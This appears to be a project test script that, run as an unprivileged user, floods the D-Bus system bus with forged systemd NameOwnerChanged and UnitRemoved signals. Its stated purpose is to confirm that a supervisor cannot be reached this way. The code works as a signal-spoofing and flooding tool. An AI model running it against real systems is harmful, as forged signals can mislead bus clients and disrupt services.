#!/usr/bin/python3
# The flood of issue #21 point 1, from an unprivileged user: `flood.py DEST
# UNIT SECONDS` sends forged NameOwnerChanged(org.freedesktop.systemd1) and
# UnitRemoved(UNIT) signals on the system bus, unicast to DEST ("": broadcast)
# as fast as the bus takes them for SECONDS. The supervisor has no connection
# on the system bus (it talks to systemd directly), so none may reach it.
import sys
import time

import dbus
import dbus.lowlevel

dest, unit, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
bus = dbus.SystemBus()
path = "/org/freedesktop/systemd1/unit/" + "".join(
    c if c.isalnum() else "_%02x" % ord(c) for c in unit)


def send(obj, iface, member, *args):
    msg = dbus.lowlevel.SignalMessage(obj, iface, member)
    if dest:
        msg.set_destination(dest)
    msg.append(*args)
    bus.send_message(msg)


sent = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for _ in range(100):
        send("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged",
             "org.freedesktop.systemd1", "", ":1.%d" % (sent + 1000))
        send("/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "UnitRemoved",
             unit, dbus.ObjectPath(path))
        sent += 2
    bus.flush()
print("flood: sent", sent, "forged signals to", dest or "everyone (broadcast)", "in", seconds, "s as uid", __import__("os").getuid())
